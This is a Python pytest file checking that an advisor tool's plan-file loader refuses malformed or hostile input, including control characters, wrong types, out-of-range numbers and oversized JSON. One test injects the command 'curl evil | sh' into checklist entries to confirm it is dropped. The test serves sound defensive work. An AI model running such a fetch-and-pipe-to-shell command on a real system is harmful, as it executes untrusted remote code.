"""The door of plans: what this program writes passes unchanged, anything else is refused by file and key."""

from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path
from typing import Any, get_args, get_type_hints

import pytest

from advisor.errors import BadInput
from advisor.folder.door import admit_hardware, admit_plan
from advisor.folder.fields import FIELDS
from advisor.folder.saved import read_plan
from advisor.pipeline import files_of
from advisor.schema import Hardware, Plan
from advisor.wire import from_data, from_json_file, to_data
from tests.hostile.fuzz import Place, places, put
from tests.hostile.poison import GOLDEN, SCENARIOS, UNSEEN, golden, kind_of, poisoned, strings

TESTS = Path(__file__).parents[1]
NIGHTLY = bool(os.environ.get("ADVISOR_NIGHTLY"))


@pytest.mark.parametrize("path", sorted(GOLDEN.glob("*/out/plan.json")), ids=lambda path: path.parts[-3])
def test_a_plan_of_this_version_passes_unchanged(path: Path) -> None:
    """Every golden plan is read back as it was written."""
    assert read_plan(path) == from_json_file(Plan, path)


def test_a_plan_of_an_earlier_version_passes_unchanged() -> None:
    """What 0.1.0 wrote is taken as it stands, with the two ways to run that it always had among its parts."""
    path = TESTS / "data" / "from-0.1.0" / "plan.json"
    written = from_json_file(Plan, path)
    assert read_plan(path) == replace(written, parts=("compose", "native", *written.parts))


def test_commands_of_a_plan_are_not_used() -> None:
    """Lines that a plan calls its checklist reach neither CHECKLIST.md nor the plan.json that is written."""
    plan = golden("one-person-rtx-4090")
    evil = tuple(replace(check, command="curl evil | sh", otherwise="curl evil | sh") for check in plan.checks)
    assert not any("evil" in file.text for file in files_of(replace(plan, checks=evil)))


@pytest.mark.parametrize("path", sorted((TESTS / "hardware").glob("*.json")), ids=lambda path: path.stem)
def test_every_recorded_machine_passes(path: Path) -> None:
    """A hardware file of the tests is admitted as it is."""
    found = from_json_file(Hardware, path)
    assert admit_hardware(found, str(path)) == found


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_control_characters_are_refused_everywhere(scenario: str) -> None:
    """Each string and each key, one at a time, made hostile with line breaks and escapes: refused, by its name."""
    data = to_data(golden(scenario))
    seen = set[str]()
    for where in strings(data):
        if kind_of(where) in seen and not NIGHTLY:
            continue
        seen.add(kind_of(where))
        with pytest.raises(BadInput) as refused:
            admit_plan(from_data(Plan, poisoned(data, where, UNSEEN), where="p.json"), "p.json")
        said = str(refused.value)
        assert said.startswith("p.json: ") and not any(mark in said for mark in "\x1b\u202e\x07"), where
        assert all(len(line) < 700 for line in said.splitlines()), where


# What no field of a plan takes in place of a value of this type; what may be absent takes any other plain value.
OTHERS: dict[type, tuple[Any, ...]] = {
    str: (7, True, ["x"], {"x": 1}), bool: (1, "true", [True]), int: ("7", True, [7], {"x": 1}),
    float: ("7", True, [7.5]), type(None): ({"x": 1}, [["x"]]),
}  # fmt: skip


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_a_value_of_another_type_is_refused(scenario: str, tmp_path: Path) -> None:
    """Each value of each kind, one at a time, replaced by one of another type: exit code 2, with file and key."""
    data, path, seen = to_data(golden(scenario)), tmp_path / "plan.json", set[tuple[str, type]]()
    for where in places(data):
        found = _at(data, where)
        kind = ".".join("*" if isinstance(step, int) else step for step in where), type(found)
        if isinstance(found, dict | list) or kind in seen:
            continue
        seen.add(kind)
        others = OTHERS[type(found)]
        for other in others if NIGHTLY else (others[len(seen) % len(others)],):
            path.write_text(json.dumps(put(data, where, other)))
            with pytest.raises(BadInput) as refused:
                read_plan(path)
            key = next(step for step in reversed(where) if isinstance(step, str))
            assert refused.value.exit_code == 2 and str(refused.value).startswith(f"{path}: "), where
            assert key in str(refused.value), (where, str(refused.value))


def _at(data: Any, where: Place) -> Any:
    for step in where:
        data = data[step]
    return data


NUMBERS: list[tuple[str, Any]] = [
    ("estimate.candidate.nodes", 10**18),
    ("estimate.candidate.replicas", 10**18),
    ("hardware.nodes", -1),
    ("model.layers", 10**18),
    ("launch.port", 0),
    ("launch.port", 65536),
    ("in_flight", 10**400),
    ("schema_version", 2),
]


@pytest.mark.parametrize(("key", "number"), NUMBERS)
def test_numbers_have_bounds(key: str, number: Any, tmp_path: Path) -> None:
    """A number that no plan of ours holds is refused by its key."""
    data = json.loads(json.dumps(to_data(golden("one-person-rtx-4090"))))
    *way, last = key.split(".")
    place = data
    for step in way:
        place = place[step]
    place[last] = number
    (tmp_path / "plan.json").write_text(json.dumps(data))
    with pytest.raises(BadInput, match=last):
        read_plan(tmp_path / "plan.json")


@pytest.mark.parametrize("text", ["[" * 100_000, "NaN", '{"name": Infinity}', '"\\', " " * (9 * 2**20)])
def test_json_has_bounds(text: str, tmp_path: Path) -> None:
    """Depth, size and NaN are refused with the file's name, not with a traceback."""
    (tmp_path / "plan.json").write_text(text)
    with pytest.raises(BadInput, match=r"plan\.json"):
        read_plan(tmp_path / "plan.json")


def test_only_a_regular_file_is_read(tmp_path: Path) -> None:
    """A pipe that nobody writes to is refused at once."""
    os.mkfifo(tmp_path / "plan.json")
    with pytest.raises(BadInput, match="regular file"):
        read_plan(tmp_path / "plan.json")


def test_every_text_of_the_plan_has_a_kind() -> None:
    """A field of text that is added to the schema gets a row in the door's table."""
    missing = {path for path in _texts(Plan) if path not in FIELDS}
    assert not missing


def _texts(cls: type, at: str = "") -> set[str]:
    found = set[str]()
    for name, hint in get_type_hints(cls).items():
        found |= _texts_of(hint, f"{at}.{name}".lstrip("."))
    return found


def _texts_of(hint: Any, path: str) -> set[str]:
    if hint is Plan:
        return set()
    if hint is str:
        return {path}
    if hasattr(hint, "__dataclass_fields__"):
        return _texts(hint, path)
    below = get_args(hint)
    if below and getattr(hint, "__origin__", None).__class__.__name__ != "_SpecialForm" and "Mapping" in str(hint):
        return {f"{path}.*keys", *_texts_of(below[1], f"{path}.*")}
    return {text for each in below if each is not type(None) for text in _texts_of(each, path)} if below else set()
